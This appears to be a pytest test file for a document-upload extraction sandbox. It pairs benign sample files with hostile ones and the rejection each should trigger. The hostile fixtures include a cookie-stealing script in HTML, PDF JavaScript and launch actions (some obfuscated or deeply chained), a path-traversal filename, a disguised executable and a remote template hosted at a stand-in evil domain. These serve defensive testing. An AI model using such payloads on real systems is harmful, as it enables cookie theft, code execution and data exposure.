"""The sample corpus, real and hostile, each file with its expected intake outcome.

Every file is generated here (no binaries in the repository). Each case is checked twice:
the fast upload check, then sandboxed extraction in a child process.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT

from assessment.extraction import (
    ExtractionSandbox,
    UploadLimits,
    check_upload,
    extract_text,
    extract_text_unsandboxed,
)

from .corpus import (
    billion_laughs_docx,
    encrypt_pdf,
    external_entity_docx,
    linked_docx,
    lying_zip_docx,
    macro_docx,
    make_docx,
    make_image,
    make_pdf,
    make_pptx,
    plain_zip,
    png_claiming,
    text_box_docx,
    windows_executable,
    zip_bomb_docx,
)

LIMITS = UploadLimits()
HTML_PAGE = (
    b"<!doctype html><html><head><title>Portfolio</title><script>alert('x')</script>"
    b"<style>p { color: red }</style></head><body><h1>My work</h1>"
    b"<p>I <b>built</b> a data pipeline.</p><script>steal(document.cookie)</script>"
    b"<ul><li>Python</li><li>SQL</li></ul></body></html>"
)
JS_ACTION = "/OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
# A script at the end of 200 chained /Next actions, deeper than any fixed recursion limit.
ACTION_CHAIN = (
    "/OpenAction << /S /URI /URI (https://example.com) "
    + "/Next << /S /URI /URI (https://example.com) " * 200
    + "/Next << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    + " >>" * 201
)
# The same script hidden in an indirect object, its names hex-escaped (#61 = a, #53 = S).
HIDDEN_JS = ("<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",)


@dataclass(frozen=True)
class Case:
    """One sample file and what must happen to it."""

    id: str
    name: str
    build: Callable[[], bytes]
    accepted: bool  # by check_upload
    status: str  # of extract_text
    message: str  # a fragment of the check's message (if rejected) or the result's
    kind: str | None = None
    safe_name: str | None = None
    text_has: tuple[str, ...] = ()
    text_lacks: tuple[str, ...] = ()
    locators: tuple[str, ...] | None = None
    pages: int = 0
    limits: UploadLimits = field(default=LIMITS)


CASES = [
    # Real evidence.
    Case("pdf", "report.pdf", lambda: make_pdf(["Project plan\nI led the migration", "Results (final)"]),
         True, "ok", "characters of text", "pdf", text_has=("I led the migration", "Results (final)"),
         locators=("page 1", "page 2"), pages=2),
    Case("pdf-no-text", "scan.pdf", lambda: make_pdf(["", ""]),
         True, "no_text", "no text could be found", "pdf", pages=2),
    Case("pdf-owner-password-only", "locked.pdf", lambda: encrypt_pdf(make_pdf(["Readable"]), ""),
         True, "ok", "characters", "pdf", text_has=("Readable",), pages=1),
    Case("docx", "essay.docx", lambda: make_docx(["I mentored two juniors."], [["Tool", "Hours"], ["dbt", "40"]]),
         True, "ok", "characters", "docx", text_has=("I mentored two juniors.", "Tool | Hours", "dbt | 40"),
         locators=("",)),
    Case("docx-text-box", "cv.docx", lambda: text_box_docx("Body text", "Skills in a box"),
         True, "ok", "characters", "docx", text_has=("Body text\nSkills in a box",)),
    Case("pptx", "deck.pptx",
         lambda: make_pptx([("Goals", "Cut costs"), ("Plan", "Migrate"), ("Outcome", "Saved 20%")],
                           {2: "Speaker notes count"}),
         True, "ok", "characters", "pptx", text_has=("Cut costs", "Saved 20%", "Speaker notes count"),
         locators=("slide 1", "slide 2", "slide 3"), pages=3),
    Case("txt-crlf", "notes.txt", lambda: b"Line one\r\nLine two\r\n",
         True, "ok", "characters", "txt", text_has=("Line one\nLine two",), text_lacks=("\r",)),
    Case("markdown", "README.md", lambda: b"# Title\n\n- item with **bold**\n",
         True, "ok", "characters", "md", text_has=("# Title", "**bold**")),
    Case("html-with-script", "page.html", lambda: HTML_PAGE,
         True, "ok", "characters", "html", text_has=("Portfolio", "I built a data pipeline.", "Python\nSQL"),
         text_lacks=("alert", "steal", "color")),
    Case("htm", "page.htm", lambda: b"<p>short</p>", True, "ok", "characters", "html", text_has=("short",)),
    Case("utf16-bom", "lettre.txt", lambda: "Résumé — projet\nligne 2".encode("utf-16"),
         True, "ok", "characters", "txt", text_has=("Résumé — projet",)),
    Case("utf16-no-bom", "plain.txt", lambda: "ASCII text stored as UTF-16".encode("utf-16-le"),
         True, "ok", "characters", "txt", text_has=("ASCII text stored as UTF-16",)),
    Case("cp1252", "legacy.txt", lambda: "Café déjà vu".encode("cp1252"),
         True, "ok", "characters", "txt", text_has=("Café déjà vu",)),
    Case("png", "diagram.png", lambda: make_image("PNG"), True, "no_text", "no text to score", "image"),
    Case("jpeg", "photo.jpg", lambda: make_image("JPEG"), True, "no_text", "no text to score", "image"),
    Case("gif", "anim.gif", lambda: make_image("GIF"), True, "no_text", "no text to score", "image"),
    Case("webp", "shot.webp", lambda: make_image("WEBP"), True, "no_text", "no text to score", "image"),
    # Names that try to escape or deceive: sanitised for display, content judged on its own.
    Case("path-traversal", "../../etc/passwd.pdf", lambda: make_pdf(["fine"]),
         True, "ok", "characters", "pdf", safe_name="passwd.pdf", text_has=("fine",), pages=1),
    Case("windows-path", "C:\\Users\\me\\cv.docx", lambda: make_docx(["cv"]),
         True, "ok", "characters", "docx", safe_name="cv.docx"),
    Case("nul-in-name", "evil\x00.pdf", lambda: make_pdf(["nul"]),
         True, "ok", "characters", "pdf", safe_name="evil.pdf", pages=1),
    Case("rtl-override", "invoice\u202efdp.exe", lambda: windows_executable(),
         False, "failed", "files of type .exe are not accepted", safe_name="invoicefdp.exe"),
    # Broken, encrypted, hostile.
    Case("pdf-encrypted", "secret.pdf", lambda: encrypt_pdf(make_pdf(["hidden"]), "pw"),
         True, "failed", "protected by a password", "pdf"),
    Case("pdf-truncated", "cut.pdf", lambda: make_pdf(["one", "two"])[:300],
         True, "failed", "damaged or incomplete", "pdf"),
    Case("pdf-javascript", "js.pdf", lambda: make_pdf(["click me"], catalog_extra=JS_ACTION),
         True, "failed", "contains JavaScript", "pdf"),
    Case("pdf-hidden-javascript", "js2.pdf",
         lambda: make_pdf(["hi"], catalog_extra="/OpenAction 6 0 R", extra_objects=HIDDEN_JS),
         True, "failed", "contains JavaScript", "pdf"),
    Case("pdf-javascript-deep-in-a-chain", "chain.pdf", lambda: make_pdf(["hi"], catalog_extra=ACTION_CHAIN),
         True, "failed", "contains JavaScript", "pdf"),
    Case("pdf-page-tree-cycle", "cycle.pdf", lambda: make_pdf(["hi"]).replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]"),
         True, "failed", "damaged or incomplete", "pdf"),
    Case("pdf-launch", "run.pdf", lambda: make_pdf(["hi"], catalog_extra="/OpenAction << /S /Launch /F (calc.exe) >>"),
         True, "failed", "launches programs", "pdf"),
    Case("pdf-claims-100k-pages", "huge.pdf", lambda: make_pdf(["hi"], claimed_count=100_000),
         True, "failed", "has 100,000 pages; the limit is 200", "pdf"),
    Case("pdf-5000-pages-hidden", "many.pdf", lambda: make_pdf(["hi"], kids_repeat=5000, claimed_count=1),
         True, "failed", "has 5,000 pages; the limit is 200", "pdf"),
    Case("docx-zip-bomb", "bomb.docx", lambda: zip_bomb_docx(210 << 20),
         False, "failed", "would unpack to 210.8 MB; the limit is 200 MB"),
    Case("pptx-too-many-slides", "long.pptx", lambda: make_pptx([("s", "b")] * 6),
         False, "failed", "it has 6 slides; the limit is 5", limits=UploadLimits(max_pages=5)),
    Case("pdf-too-many-pages", "long.pdf", lambda: make_pdf(["p"] * 6),
         True, "failed", "has 6 pages; the limit is 5", "pdf", limits=UploadLimits(max_pages=5)),
    Case("html-deep-nesting", "deep.html", lambda: b"<p>intro</p>" + b"<div>" * 200_000 + b"x" + b"</div>" * 200_000,
         True, "ok", "characters", "html", text_has=("intro",)),
    Case("docx-lying-sizes", "forged.docx", lambda: lying_zip_docx(5 << 20, 1000),
         True, "failed", "damaged", "docx"),
    Case("docx-remote-template", "cv.docx", lambda: linked_docx(ATTACHED_TEMPLATE, "https://evil.example/t.dotm"),
         True, "failed", "fetch outside content when opened (attachedTemplate link)", "docx"),
    Case("docx-hyperlink", "cv.docx", lambda: linked_docx(RT.HYPERLINK, "https://example.com/portfolio"),
         True, "ok", "characters", "docx", text_has=("Linked content inside",)),
    Case("docx-macros", "macro.docx", macro_docx, False, "failed", "contains macros"),
    Case("docx-billion-laughs", "laughs.docx", billion_laughs_docx, True, "failed", "entity amplification", "docx"),
    Case("docx-external-entity", "xxe.docx", external_entity_docx, True, "no_text", "no text", "docx",
         text_lacks=("root:",)),
    Case("zip-as-docx", "archive.docx", plain_zip, False, "failed", "not a Word (.docx) or PowerPoint"),
    Case("ole-as-docx", "old.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
         False, "failed", "old-format (.doc/.ppt)"),
    Case("exe-as-pdf", "cv.pdf", windows_executable, False, "failed", "named .pdf but its content is an executable"),
    Case("html-as-pdf", "cv.pdf", lambda: HTML_PAGE, False, "failed", "named .pdf but its content is text"),
    Case("pdf-as-docx", "cv.docx", lambda: make_pdf(["x"]), False, "failed", "named .docx but its content is a PDF"),
    Case("jpeg-as-png", "photo.png", lambda: make_image("JPEG"),
         False, "failed", "named .png but its content is a jpeg image"),
    Case("png-damaged-header", "chart.png", lambda: make_image("PNG")[:5] + b"\0" + make_image("PNG")[6:],
         False, "failed", "a .png file with a damaged header"),
    Case("mp4-as-pdf", "cv.pdf", lambda: b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 100,
         False, "failed", "a .mp4 file (video/mp4)"),
    Case("binary-as-txt", "data.txt", lambda: bytes(range(256)) * 8, False, "failed", "binary data"),
    Case("image-pixel-bomb", "bomb.png", lambda: png_claiming(100_000, 100_000),
         True, "failed", "too many pixels", "image"),
    Case("image-truncated", "cut.png", lambda: make_image("PNG")[:40], True, "failed", "damaged", "image"),
    Case("no-extension", "README", lambda: b"text", False, "failed", "files of no extension are not accepted"),
    Case("empty", "empty.txt", lambda: b"", False, "no_text", "the file is empty", "txt"),
    Case("oversized", "big.txt", lambda: b"a" * (20 * 1024 * 1024 + 1),
         False, "failed", "the file is 20,971,521 bytes, over the limit of 20 MB per file"),
    Case("over-char-limit", "long.txt", lambda: b"word " * 2000, True, "ok", "cut off after the first 1,000",
         "txt", limits=UploadLimits(max_chars=1000)),
]  # fmt: skip


@pytest.fixture(scope="module")
def sandbox() -> Iterator[ExtractionSandbox]:
    with ExtractionSandbox() as box:
        yield box


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_upload_check(case: Case) -> None:
    check = check_upload(case.name, case.build(), case.limits)

    assert check.ok is case.accepted, check.message
    if case.accepted:
        assert check.kind == case.kind
    else:
        assert check.kind is None
        assert case.message in check.message
    assert check.safe_name == (case.safe_name or check.safe_name)
    assert "/" not in check.safe_name and "\x00" not in check.safe_name


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_sandboxed_extraction(case: Case, sandbox: ExtractionSandbox) -> None:
    data = case.build()
    result = extract_text(case.name, data, case.limits, sandbox=sandbox)

    assert (result.status, case.message in result.message) == (case.status, True), result.message
    if case.kind:
        assert result.kind == case.kind
    assert result.pages == case.pages
    for fragment in case.text_has:
        assert fragment in result.text
    for fragment in case.text_lacks:
        assert fragment not in result.text
    if case.locators is not None:
        assert tuple(segment.locator for segment in result.segments) == case.locators
    if result.status == "ok":
        source = case.safe_name or case.name
        assert {segment.source for segment in result.segments} == {source}
        assert len(result.text) <= case.limits.max_chars
        unsandboxed = extract_text_unsandboxed(case.name, data, result.kind, case.limits)
        assert unsandboxed == result
    else:
        assert result.segments == ()
